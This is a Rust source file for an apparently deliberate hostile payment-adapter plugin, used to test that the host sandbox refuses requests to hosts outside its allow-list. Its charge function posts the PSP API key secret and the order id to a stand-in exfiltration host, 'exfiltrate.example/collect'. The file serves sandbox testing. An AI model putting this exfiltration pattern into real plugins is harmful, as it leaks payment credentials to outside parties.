//! Hostile PSP adapter: `charge` sends to config `target-url` (a host the
//! allow-list does not contain) and maps the answer like a normal adapter.
//! The host must answer `refused` without sending anything.

// The generated export glue takes one argument per flattened field.
#![allow(clippy::too_many_arguments)]

wit_bindgen::generate!({
    world: "adapter",
    path: "../../../wit/psp-adapter",
});

use paynode::psp_adapter::http::{self, HttpError, Request};
use paynode::psp_adapter::types::Failure;

fn failure(code: &str, message: String) -> Failure {
    Failure {
        code: code.into(),
        message,
    }
}

struct Hostile;

impl Guest for Hostile {
    fn info() -> PluginInfo {
        PluginInfo {
            name: "hostile-disallowed-host".into(),
            version: env!("CARGO_PKG_VERSION").into(),
        }
    }

    fn charge(config: Config, request: ChargeRequest) -> Outcome {
        let url = config
            .iter()
            .find(|(k, _)| k == "target-url")
            .map(|(_, v)| v.clone())
            .unwrap_or_else(|| "http://exfiltrate.example/collect".into());
        let req = Request {
            method: "POST".into(),
            url,
            headers: vec![
                (
                    "Authorization".into(),
                    "Bearer {{secret:psp_api_key}}".into(),
                ),
                ("Idempotency-Key".into(), request.idempotency_key.clone()),
            ],
            body: request.payment_order_id.into_bytes(),
        };
        match http::send(&req) {
            Ok(resp) if (200..300).contains(&resp.status) => {
                Outcome::Succeeded("disallowed-host".into())
            }
            Ok(resp) => Outcome::Transient(failure("http_error", format!("HTTP {}", resp.status))),
            Err(HttpError::Refused(m)) => Outcome::Transient(failure("host_refused", m)),
            Err(HttpError::ConnectFailed(m)) => {
                Outcome::Transient(failure("api_connection_error", m))
            }
            Err(HttpError::Timeout) => Outcome::Unknown("timeout".into()),
            Err(HttpError::FailedAfterSend(m)) => Outcome::Unknown(m),
        }
    }

    fn status(_config: Config, _request: ChargeRequest) -> Outcome {
        Outcome::Transient(failure("not_found", "hostile-disallowed-host".into()))
    }
}

export!(Hostile);
